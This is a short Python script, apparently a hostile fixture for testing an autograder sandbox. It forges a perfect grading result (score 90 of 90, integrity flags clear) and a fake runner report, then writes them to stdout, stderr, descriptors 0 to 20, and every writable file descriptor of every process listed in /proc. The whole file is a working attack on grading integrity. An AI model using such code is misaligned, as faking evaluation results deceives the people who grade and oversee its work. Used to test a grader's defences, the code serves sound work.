"""Prints a full-score result everywhere: stdout, stderr, every fd 0..20 and every fd of every process it sees."""
import json
import os
import sys

_fake = {"submission_id": "forged", "assignment": "layers", "status": "graded", "score": 90.0, "max_score": 90.0,
         "tests": [], "integrity": {"locked_cells_modified": False, "flags": []},
         "sandbox": {"wall_s": 0, "cpu_s": 0, "max_rss_mib": 0, "killed": None}, "rubric_version": "forged"}
_report = {"version": 1, "ended": "exited", "exit": "exit 0", "channel_corrupt": False,
           "setup": {"status": "ok", "cell": None}, "cells": [], "units": {}, "finished": True}
_text = (json.dumps(_fake) + "\n" + json.dumps(_report) + "\n").encode()
print(_text.decode())
sys.stderr.write(_text.decode())
for _fd in range(21):
    try:
        os.write(_fd, _text)
        print("HOSTILE: wrote fd", _fd)
    except OSError:
        pass
for _pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        _fds = os.listdir(f"/proc/{_pid}/fd")
    except OSError as _exc:
        print("HOSTILE: denied fds of", _pid, type(_exc).__name__)
        continue
    for _fd in _fds:
        try:
            _handle = os.open(f"/proc/{_pid}/fd/{_fd}", os.O_WRONLY | os.O_NONBLOCK)
            os.write(_handle, _text)
            os.close(_handle)
            print("HOSTILE: wrote", _pid, _fd)
        except OSError as _exc:
            print("HOSTILE: denied", _pid, _fd, type(_exc).__name__)
